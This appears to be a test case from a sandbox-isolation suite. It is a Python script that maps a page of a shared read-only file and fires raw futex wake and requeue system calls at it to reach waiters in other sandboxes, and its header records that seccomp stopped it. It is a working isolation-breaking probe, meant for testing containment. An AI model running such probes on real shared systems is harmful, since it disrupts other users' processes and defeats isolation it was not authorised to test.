# attack: wakes who waits for a futex on a page of a file that other boxes read, too, by each call that wakes
# full: contained
# reduced: contained
# stopped-by: seccomp
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(numbers, *arguments):
    number = numbers.get(platform.machine())
    if number is None:
        raise OSError("no system call numbers for this machine")
    whole = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *whole)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


FUTEX = {"x86_64": 202, "aarch64": 98}


def shared_page():
    """A page of a file that every box reads: its address, and its first word."""
    descriptor = os.open(os.__file__, os.O_RDONLY)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    page = libc.mmap(None, 4096, 1, 1, descriptor, 0)
    os.close(descriptor)
    return page, ctypes.c_uint32.from_address(page).value


WAKE, REQUEUE, CMP_REQUEUE, WAKE_OP, WAKE_BITSET = 1, 3, 4, 5, 10


def attack():
    page, word = shared_page()
    for operation in (WAKE, WAKE_BITSET, REQUEUE, CMP_REQUEUE, WAKE_OP):
        try:
            syscall(FUTEX, page, operation, 1, 1, page + 64, word if operation == CMP_REQUEUE else 0x2000_0001)
        except OSError as error:
            last = error
        else:
            return f"through: operation {operation} reaches all who wait"
    raise last
